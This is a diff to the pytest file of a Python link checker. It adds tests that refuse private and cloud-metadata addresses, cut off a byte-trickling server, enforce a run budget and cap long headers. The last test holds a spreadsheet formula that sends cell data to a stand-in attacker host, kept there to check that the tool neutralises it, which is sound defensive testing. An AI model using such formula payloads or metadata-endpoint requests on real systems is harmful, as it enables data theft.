@@ -7,13 +7,18 @@ from __future__ import annotations
 
 import csv
 import io
+import ipaddress
 import json
+import os
 import socket
 import socketserver
+import subprocess
+import sys
 import threading
 import time
 from collections import Counter
 from collections.abc import Iterator
+from dataclasses import replace
 from datetime import UTC, datetime
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
@@ -21,13 +26,18 @@ from pathlib import Path
 import pytest
 
 from geo import linkcheck
+from geo.config import PROJECT_ROOT
 from geo.linkcheck import Link, Outcome, Place, Policy
 from tests.support.run import run_module
 
 FIXTURES = Path(__file__).resolve().parent / "fixtures"
 TIMEOUT = 0.4
-POLICY = Policy(timeout=TIMEOUT, retries=1, backoff=0.02, pause=0.0, hosts_at_once=4)
+# The test servers are on 127.0.0.1, which the checker refuses by default (see the tests of
+# refused addresses below): these tests allow the loopback, and only it.
+LOCAL = linkcheck.loopback_too
+POLICY = Policy(timeout=TIMEOUT, retries=1, backoff=0.02, pause=0.0, hosts_at_once=4, allow=LOCAL)
 SLOW_SECONDS = 5 * TIMEOUT  # the "slow" path answers long after the client gave up
+TRICKLE_GAP = TIMEOUT / 4  # the "trickle" path: one byte per gap, never a read timeout
 
 
 class Handler(BaseHTTPRequestHandler):
@@ -64,9 +74,16 @@ class Handler(BaseHTTPRequestHandler):
                 self._answer(503)
             elif self.path == "/no-head":
                 self._answer(405 if self.command == "HEAD" else 200)
-            elif self.path == "/slow":
+            elif self.path.startswith("/slow"):
                 self.server.release.wait(SLOW_SECONDS)
                 self._answer(200)
+            elif self.path == "/trickle":
+                self._trickle()
+            elif self.path == "/long-reason":
+                self.send_response(404, "x" * 60_000)
+                self.send_header("Location", "/" + "y" * 60_000)
+                self.send_header("Content-Length", "0")
+                self.end_headers()
             elif self.path.startswith("/busy"):
                 time.sleep(0.05)
                 self._answer(200)
@@ -75,6 +92,15 @@ class Handler(BaseHTTPRequestHandler):
         finally:
             with self.server.lock:
                 self.server.in_flight -= 1
+
+    def _trickle(self) -> None:
+        """A status line and headers one byte at a time, each well within the read timeout."""
+        for byte in b"HTTP/1.1 200 OK\r\nX-Slow: " + b"z" * 200:
+            if self.server.release.is_set():
+                return
+            self.wfile.write(bytes([byte]))
+            self.wfile.flush()
+            time.sleep(TRICKLE_GAP)
 
     do_GET = _route
     do_HEAD = _route
@@ -134,7 +160,7 @@ def link(url: str) -> Link:
 
 
 def check(url: str, policy: Policy = POLICY) -> Outcome:
-    return linkcheck.check_link(linkcheck.make_opener(), link(url), policy)
+    return linkcheck.check_link(linkcheck.make_opener(LOCAL), link(url), policy)
 
 
 def test_200_is_ok_from_one_head_request(server: Server) -> None:
@@ -167,7 +193,7 @@ def test_a_server_refusing_head_is_asked_with_get(server: Server) -> None:
 def test_a_passing_503_is_retried_after_a_backoff(server: Server) -> None:
     slept: list[float] = []
     outcome = linkcheck.check_link(
-        linkcheck.make_opener(), link(base(server) + "/flaky"), POLICY, slept.append
+        linkcheck.make_opener(LOCAL), link(base(server) + "/flaky"), POLICY, slept.append
     )
     assert (outcome.result, outcome.status, outcome.attempts) == ("ok", 200, 2)
     # HEAD and GET both meet the 503; after the backoff, HEAD finds the page back.
@@ -177,9 +203,9 @@ def test_a_passing_503_is_retried_after_a_backoff(server: Server) -> None:
 
 def test_a_lasting_503_is_dead_after_every_retry_with_doubling_backoff(server: Server) -> None:
     slept: list[float] = []
-    policy = Policy(timeout=TIMEOUT, retries=2, backoff=0.01, pause=0.0)
+    policy = Policy(timeout=TIMEOUT, retries=2, backoff=0.01, pause=0.0, allow=LOCAL)
     outcome = linkcheck.check_link(
-        linkcheck.make_opener(), link(base(server) + "/down"), policy, slept.append
+        linkcheck.make_opener(LOCAL), link(base(server) + "/down"), policy, slept.append
     )
     assert (outcome.result, outcome.status, outcome.attempts) == ("dead", 503, 3)
     assert len(server.requests) == 6  # HEAD and GET on each attempt
@@ -219,7 +245,9 @@ def test_a_closed_port_is_a_refused_connection() -> None:
 
 def test_one_request_at_a_time_per_host(server: Server) -> None:
     links = [link(f"{base(server)}/busy/{n}") for n in range(6)]
-    outcomes = linkcheck.check_links(links, Policy(timeout=2, pause=0.0, hosts_at_once=6))
+    outcomes = linkcheck.check_links(
+        links, Policy(timeout=2, pause=0.0, hosts_at_once=6, allow=LOCAL)
+    )
     assert [o.url for o in outcomes] == [lk.url for lk in links]
     assert {o.result for o in outcomes} == {"ok"}
     assert len(server.requests) == 6
@@ -269,14 +297,14 @@ def test_reports_show_data_literally_and_agree_with_each_other(tmp_path: Path) -
     assert [p.name for p in paths] == list(linkcheck.REPORT_FILES)
     markdown, document, table = (p.read_text(encoding="utf-8") for p in paths)
 
-    assert "1 dead, 1 error, 1 moved, 1 ok" in markdown
+    assert "1 dead, 1 error, 0 refused, 1 moved, 1 ok" in markdown
     row = next(line for line in markdown.splitlines() if "a\\|b" in line)
     # In a code span longer than the URL's own backticks, with the table pipe escaped.
     assert row.startswith("| ``https://example.org/a\\|b`c`<img src=x>`` |"), row
     assert "https://b.example/" in markdown and "https://d.example/" not in markdown
 
     data = json.loads(document)
-    assert data["counts"] == {"dead": 1, "error": 1, "moved": 1, "ok": 1}
+    assert data["counts"] == {"dead": 1, "error": 1, "refused": 0, "moved": 1, "ok": 1}
     assert [r["url"] for r in data["links"]] == [o.url for o in outcomes]
     assert data["links"][0]["places"] == [
         {"path": "data/events.csv", "line": 2, "field": "source_url"}
@@ -298,10 +326,10 @@ def test_command_writes_the_reports_and_fails_only_for_dead_links(
         f"id,source_url,read_url\ne1,{ok},{moved}\ne2,{gone},\n", encoding="utf-8"
     )
     out = tmp_path / "report"
-    args = ("--out", str(out), "--timeout", "2", "--pause", "0", str(data))
+    args = ("--out", str(out), "--timeout", "2", "--pause", "0", "--allow-loopback", str(data))
     result = run_module("geo.linkcheck", *args, env={"NO_PROXY": "127.0.0.1,localhost"})
     assert result.returncode == 1, result.stderr
-    assert result.stdout.splitlines()[0] == "1 dead, 0 error, 1 moved, 1 ok"
+    assert result.stdout.splitlines()[0] == "1 dead, 0 error, 0 refused, 1 moved, 1 ok"
     assert sorted(p.name for p in out.iterdir()) == sorted(linkcheck.REPORT_FILES)
     assert (data / "events.csv").read_text(encoding="utf-8").count(gone) == 1  # never edited
 
@@ -309,3 +337,99 @@ def test_command_writes_the_reports_and_fails_only_for_dead_links(
     assert run_module("geo.linkcheck", *args, env={"NO_PROXY": "127.0.0.1"}).returncode == 0
     bad = run_module("geo.linkcheck", "--timeout", "0", str(data))
     assert bad.returncode == 2
+
+
+# --- issue 23: refused addresses, deadlines, a budget, partial reports, caps -------------------
+
+
+@pytest.mark.parametrize(
+    "url",
+    ["http://127.0.0.1:{port}/ok", "http://localhost:{port}/ok", "http://[::1]:{port}/ok",
+     "http://169.254.169.254/latest/meta-data/", "http://10.0.0.1/", "http://192.168.1.1/",
+     "http://100.64.0.1/", "http://[::ffff:127.0.0.1]:{port}/ok", "https://0.0.0.0/",
+     "http://[fe80::1]/"],
+)  # fmt: skip
+def test_an_address_off_the_public_internet_is_refused_and_never_requested(
+    server: Server, url: str
+) -> None:
+    target = url.format(port=server.server_address[1])
+    outcome = linkcheck.check_link(
+        linkcheck.make_opener(), link(target), Policy(timeout=TIMEOUT, retries=2, pause=0.0)
+    )
+    assert outcome.result == "refused", outcome
+    assert outcome.detail.startswith("refused: ") and "not a public address" in outcome.detail
+    assert (outcome.attempts, outcome.method, outcome.status) == (1, "HEAD", None)
+    assert server.requests == []
+
+
+def test_the_default_policy_refuses_the_loopback() -> None:
+    assert Policy().allow is linkcheck.global_only
+    for text in ("127.0.0.1", "::1", "169.254.169.254", "10.1.2.3", "fd00::1"):
+        assert not linkcheck.global_only(ipaddress.ip_address(text)), text
+    assert linkcheck.global_only(ipaddress.ip_address("93.184.216.34"))
+
+
+def test_a_server_trickling_bytes_is_cut_at_the_request_s_deadline(server: Server) -> None:
+    policy = replace(POLICY, retries=0, deadline=4 * TIMEOUT)
+    start = time.monotonic()
+    outcome = check(base(server) + "/trickle", policy)
+    elapsed = time.monotonic() - start
+    assert outcome.result == "error"
+    assert outcome.detail == f"timeout (no full answer within {policy.deadline:g} s)"
+    assert elapsed < policy.deadline + 1.5, elapsed  # 200 bytes would take 20 s
+
+
+def test_the_run_s_budget_stops_it_and_names_what_was_not_checked(server: Server) -> None:
+    links = [link(f"{base(server)}/slow?{n}") for n in range(6)]
+    policy = replace(POLICY, retries=0, budget=3 * TIMEOUT)
+    start = time.monotonic()
+    outcomes = linkcheck.check_links(links, policy)
+    elapsed = time.monotonic() - start
+    assert elapsed < policy.budget + 1.5, elapsed  # six slow links alone take 6 timeouts
+    assert [o.url for o in outcomes] == [lk.url for lk in links]
+    skipped = [o for o in outcomes if o.detail.startswith("not checked: the run's budget")]
+    assert skipped and all(o.attempts == 0 for o in skipped)
+
+
+def test_reason_phrases_and_locations_are_capped(server: Server) -> None:
+    outcome = check(base(server) + "/long-reason")
+    assert outcome.result == "dead"
+    assert len(outcome.detail) <= len("HTTP 404 ") + 200, len(outcome.detail)
+    assert outcome.detail.endswith("\u2026")
+    redirect = linkcheck._from_status("https://a.example/", 301, "Moved", "/" + "y" * 60_000)
+    assert len(redirect.location) == 200 and redirect.location.endswith("\u2026")
+
+
+def test_a_killed_run_leaves_a_partial_report(server: Server, tmp_path: Path) -> None:
+    data = tmp_path / "data"
+    data.mkdir()
+    urls = [base(server) + "/ok", base(server) + "/trickle"]
+    rows = "".join(f"e{n},{url}\n" for n, url in enumerate(urls))
+    (data / "events.csv").write_text("id,source_url\n" + rows, encoding="utf-8")
+    out = tmp_path / "report"
+    command = [sys.executable, "-m", "geo.linkcheck", "--out", str(out), "--pause", "0",
+               "--timeout", "2", "--deadline", "60", "--allow-loopback", str(data)]  # fmt: skip
+    env = {**os.environ, "NO_PROXY": "127.0.0.1"}
+    run = subprocess.Popen(command, cwd=PROJECT_ROOT, env=env, stdout=subprocess.DEVNULL,
+                           stderr=subprocess.DEVNULL)  # fmt: skip
+    table = out / "linkcheck.csv"
+    try:
+        give_up = time.monotonic() + 20
+        while time.monotonic() < give_up:
+            if table.is_file() and len(table.read_text("utf-8").splitlines()) >= 2:
+                break
+            time.sleep(0.05)
+    finally:
+        run.kill()
+        run.wait(10)
+    rows_found = list(csv.DictReader(io.StringIO(table.read_text("utf-8"))))
+    assert [(r["url"], r["result"]) for r in rows_found] == [(urls[0], "ok")]
+    assert "Not finished" in (out / "linkcheck.md").read_text("utf-8")
+
+
+def test_a_formula_from_a_server_is_neutralised_in_the_csv(tmp_path: Path) -> None:
+    evil = '=HYPERLINK("https://evil.example/?x="&A1)'
+    outcomes = [Outcome("https://a.example/", "dead", evil, 404, "@x", "GET", 1)]
+    paths = linkcheck.write_reports(outcomes, tmp_path, datetime(2026, 1, 5, tzinfo=UTC))
+    row = next(csv.DictReader(io.StringIO(paths[2].read_text("utf-8"))))
+    assert (row["detail"], row["location"]) == ("'" + evil, "'@x")
